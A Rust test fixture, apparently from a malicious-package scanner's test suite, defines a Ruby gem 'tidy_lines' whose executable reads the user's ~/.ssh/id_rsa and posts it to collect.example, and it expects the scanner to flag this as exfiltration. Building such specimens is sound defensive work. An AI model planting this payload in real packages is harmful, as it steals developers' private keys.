//! A gem whose program sends an SSH key.
//!
//! Must be found: programs are run through their stubs.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const PROGRAM: &str = r"#!/usr/bin/env ruby
require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/run'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("tidy_lines", "1.5.0")
        .executable("tidy-lines", PROGRAM)
        .file("lib/tidy_lines.rb", "module TidyLines\nend\n");
    package
        .specimen("gem-executable", Expect::malicious(&["canary-exfiltrated"]))
        .telling("when it is used")
}
